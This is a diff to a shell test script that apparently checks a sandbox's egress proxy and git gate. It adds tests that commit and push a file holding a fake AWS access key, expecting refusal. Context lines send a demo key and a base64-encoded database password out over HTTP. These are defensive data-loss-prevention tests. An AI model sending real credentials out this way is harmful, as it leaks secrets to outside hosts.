@@ -6,7 +6,7 @@ try() {
     name="$1"; shift
     out=$("$@" 2>&1)
     code=$?
-    detail=$(printf '%s' "$out" | tr '\n\t' '  ' | cut -c1-300)
+    detail=$(printf '%s' "$out" | tr '\n\t' '  ' | cut -c1-600)
     printf '%s\t%s\t%s\n' "$name" "$code" "$detail"
 }
 try allowed   curl -sS -m 10 -w ' [HTTP %{http_code}]' http://allowed.example/
@@ -20,3 +20,17 @@ try whoami    id -un
 # disguised as base64. The proxy's DLP engine must refuse both.
 try dlp-token curl -sS -m 10 -w ' [HTTP %{http_code}]' -X POST --data "aws_access_key_id=AKIADEMOQ7RXJ2M4KD8W" http://allowed.example/upload
 try dlp-secret curl -sS -m 10 -w ' [HTTP %{http_code}]' "http://allowed.example/search?q=$(printf %s "$DEMO_DB_PASSWORD" | base64 | tr -d '\n')"
+# git through the gate: the real URL goes to the gate in the sidecar, which scans every push.
+# A commit carrying a cloud key must be refused before it reaches the upstream; a clean one lands.
+cd /home/node || exit 1
+try git-clone git clone -q https://git.example/demo.git demo-repo
+cd demo-repo || exit 1
+printf 'region = eu-west-1\naws_access_key_id = AKIADEMOQ7RXJ2M4KD8W\n' > deploy.env
+git add deploy.env && git commit -qm "add deploy settings"
+printf 'git-secret-commit\t0\t%s\n' "$(git rev-parse HEAD)"
+try git-push-secret git push origin HEAD:main
+git reset -q --hard origin/main
+printf '\nEdited inside a bottle.\n' >> README.md
+git commit -qam "README: a note from the bottle"
+try git-push-clean git push origin HEAD:main
+printf 'git-clean-commit\t0\t%s\n' "$(git rev-parse HEAD)"
